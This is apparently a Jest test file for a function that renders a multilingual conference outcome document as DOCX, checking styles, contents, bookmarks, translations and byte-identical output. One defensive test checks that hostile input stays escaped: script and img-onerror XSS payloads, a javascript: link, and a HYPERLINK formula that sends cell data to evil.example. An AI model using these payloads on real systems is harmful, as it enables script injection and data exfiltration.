import JSZip from 'jszip';
import { flat, pandocText } from '../../../test/fixtures/drafts/tools';
import { outcomeFixture } from '../../../test/fixtures/reports/outcome-document.fixture';
import type { Language } from '../outcome-document';
import { renderDocx } from './docx';

async function unzip(language: Language = 'en') {
  const zip = await JSZip.loadAsync(renderDocx(outcomeFixture(language)));
  const read = (name: string): Promise<string> => {
    const file = zip.file(name);
    if (!file) throw new Error(`${name} is not in the DOCX`);
    return file.async('string');
  };
  return { zip, read, document: await read('word/document.xml') };
}

/** The text of every paragraph, in order, as Word would show it. */
function paragraphTexts(xml: string): string[] {
  return [...xml.matchAll(/<w:p\b[\s\S]*?<\/w:p>/g)].map((p) =>
    [...p[0].matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)].map((t) => t[1]).join(''),
  );
}

/** Like toContain, but a failure prints the missing text, not a 400 kB document. */
function expectIn(xml: string, ...needles: string[]): void {
  for (const needle of needles)
    expect(xml.includes(needle) ? needle : `missing: ${needle}`).toBe(needle);
}

const decode = (text: string): string =>
  text
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');

describe('renderDocx', () => {
  it('uses Word heading styles and a table of contents field', async () => {
    const { document } = await unzip();
    for (const style of ['Heading1', 'Heading2', 'Heading3', 'Title']) {
      expectIn(document, `<w:pStyle w:val="${style}"/>`);
    }
    expectIn(document, 'TOC \\h \\o &quot;1-1&quot;</w:instrText>');
    expectIn(document, '<w:docPartGallery w:val="Table of Contents"/>');
    // The table is filled from the headings, so it is not empty before Word updates it.
    const texts = paragraphTexts(document);
    expect(texts).toEqual(expect.arrayContaining(['Chapter 1. Data', 'Annex D — Method']));
  });

  it('numbers the recommendations in document order, the noted ones last', async () => {
    const { document } = await unzip();
    const numbers = paragraphTexts(document)
      .map((text) => /^Recommendation (\d+)\. /.exec(text)?.[1])
      .filter((n): n is string => n !== undefined)
      .map(Number);
    // In the chapters and annex A, then again in annex E with their details.
    expect(numbers).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 1, 2, 3, 4, 5, 6, 7, 8]);
  });

  it('keeps titles, texts and organisations with their accents', async () => {
    const texts = paragraphTexts((await unzip()).document).map(decode);
    const all = texts.join('\n');
    expect(texts).toContain('Recommendation 3. Accès des migrants aux services de santé à Malines');
    expect(all).toContain("l'accès aux soins de santé de première ligne");
    expect(all).toContain('Urząd Miasta Łodzi');
    expect(all).toContain('İstanbul Büyükşehir Belediyesi');
    expect(all).toContain('Budapest Főváros Önkormányzata');
    expect(all).toContain('la propuesta de A Coruña');
  });

  it('writes hostile text as literal, escaped text', async () => {
    const { document } = await unzip();
    expect(/<script|<img/i.test(document)).toBe(false);
    expectIn(
      document,
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '&lt;img src=x onerror=alert(1)&gt;',
    );
    const texts = paragraphTexts(document).map(decode);
    expect(texts).toContain(
      'Recommendation 5. =HYPERLINK("https://evil.example/?q="&A1,"Municipal identity cards") <script>alert(1)</script>',
    );
    expect(texts.join('\n')).toContain('[the New York model](javascript:alert(1))');
  });

  it('has tables for the tallies and the support by constituency, and a drawn chart', async () => {
    const { document } = await unzip();
    const tables = document.match(/<w:tbl>/g) ?? [];
    // Annex B, the chart and two tables in annex C, then in annex E the support by constituency
    // of every recommendation that has votes; the details are label/value lines, not tables.
    expect(tables.length).toBeGreaterThanOrEqual(4 + 6);
    expectIn(document, '<w:tblHeader/>');
    // One shaded run of cells per constituency in the participation chart.
    expect(document.match(/w:fill="1F4E79"/g)).toHaveLength(8);
  });

  it('links cross-references to the recommendation they cite', async () => {
    const { document } = await unzip();
    expectIn(
      document,
      '<w:bookmarkStart w:name="recommendation_6"',
      '<w:hyperlink w:history="1" w:anchor="recommendation_6">',
    );
  });

  it('puts running heads and "Page x of y" in headers and footers, none on the title page', async () => {
    const { document, read } = await unzip();
    expectIn(document, '<w:titlePg/>');
    const footers = await Promise.all([read('word/footer1.xml'), read('word/footer2.xml')]);
    const footer = footers.find((xml) => xml.includes('NUMPAGES')) ?? '';
    expect(footer).toMatch(/>Page <\/w:t>/);
    expect(footer).toMatch(/<w:instrText[^>]*>PAGE<\/w:instrText>/);
    expect(footer).toMatch(/> of <\/w:t>/);
    const headers = await Promise.all([read('word/header1.xml'), read('word/header2.xml')]);
    expect(headers.join('')).toContain(
      'Global Conference on Cities and Migration — Outcome document',
    );
    expect(headers.join('')).toContain('DRAFT');
  });

  it('stamps the issue date, not the clock, in the properties and the zip entries', async () => {
    const { zip, read } = await unzip();
    const core = await read('docProps/core.xml');
    expect(core).toContain('<dcterms:created xsi:type="dcterms:W3CDTF">2017-11-17T00:00:00Z<');
    expect(core).toContain('<dcterms:modified xsi:type="dcterms:W3CDTF">2017-11-17T00:00:00Z<');
    expect(core).toContain('<dc:title>Global Conference on Cities and Migration</dc:title>');
    for (const entry of Object.values(zip.files)) {
      // JSZip reads the MS-DOS time as local time.
      expect([entry.date.getFullYear(), entry.date.getMonth(), entry.date.getDate()]).toEqual([
        2017, 10, 17,
      ]);
    }
  });

  it('numbers bookmarks from 1 however many documents the process rendered before', async () => {
    renderDocx(outcomeFixture('fr'));
    const { document } = await unzip();
    const ids = [...document.matchAll(/<w:bookmarkStart [^>]*w:id="(\d+)"/g)].map((m) =>
      Number(m[1]),
    );
    expect(Math.min(...ids)).toBe(1);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it('prints headings and fixed texts in French and Spanish', async () => {
    const fr = paragraphTexts((await unzip('fr')).document);
    expect(fr).toEqual(
      expect.arrayContaining([
        'Table des matières',
        'Chapitre 1. Données',
        'Annexe A — Recommandations dont il a été pris note',
        'Annexe D — Méthode',
        'Soutien par groupe de parties prenantes',
      ]),
    );
    expect(fr.some((text) => text.startsWith('Niveau de gouvernement\u00a0:'))).toBe(true);
    expectIn(await (await unzip('fr')).read('word/styles.xml'), '<w:lang w:val="fr-FR"/>');
    const es = paragraphTexts((await unzip('es')).document);
    expect(es).toEqual(
      expect.arrayContaining([
        'Índice',
        'Capítulo 2. Acceso a servicios básicos',
        'Anexo B — Programa',
      ]),
    );
  });

  it('opens with a usable table of contents and asks Word for no field update', async () => {
    const { document, read } = await unzip();
    expect(await read('word/settings.xml')).not.toContain('updateFields');
    const toc = document.slice(
      document.indexOf('<w:docPartGallery w:val="Table of Contents"/>'),
      document.indexOf('</w:sdtContent>'),
    );
    // Every part, linked to its heading's bookmark, written before Word ever lays the page out.
    for (const anchor of ['introduction', 'chapter_1', 'annex_a', 'annex_e'])
      expectIn(toc, `w:anchor="${anchor}"`);
    expectIn(document, '<w:bookmarkStart w:name="chapter_1"', '<w:bookmarkStart w:name="annex_e"');
    expect(paragraphTexts(toc)).toEqual(
      expect.arrayContaining([
        'Contents',
        'Introduction',
        'Chapter 1. Data',
        'Annex A — Recommendations noted',
      ]),
    );
  });

  it('keeps headings with what follows and sets text left-aligned, never stretched', async () => {
    const { document, read } = await unzip();
    const styles = await read('word/styles.xml');
    for (const id of ['Heading1', 'Heading2', 'Heading3']) {
      const style = /<w:style [^>]*w:styleId="(\w+)"[\s\S]*?<\/w:style>/g;
      const own = [...styles.matchAll(style)].find((m) => m[1] === id)?.[0] ?? '';
      expectIn(own, '<w:keepNext/>', '<w:keepLines/>');
    }
    expect(document).not.toContain('<w:jc w:val="both"/>');
    expect(styles).not.toContain('<w:jc w:val="both"/>');
  });

  it('reads in pandoc: headings, text, the decision and annex E', async () => {
    const text = flat(await pandocText(renderDocx(outcomeFixture())));
    for (const needle of [
      'Chapter 1. Data',
      'Recommendation 3. Accès des migrants aux services de santé à Malines',
      'Decision against the vote',
      'Annex E — Details and votes of each recommendation',
      'Support by constituency',
    ])
      expect(text).toContain(needle);
  });

  it('is the same bytes on every render', () => {
    const doc = outcomeFixture('fr');
    expect(renderDocx(doc).equals(renderDocx(outcomeFixture('fr')))).toBe(true);
  });
});
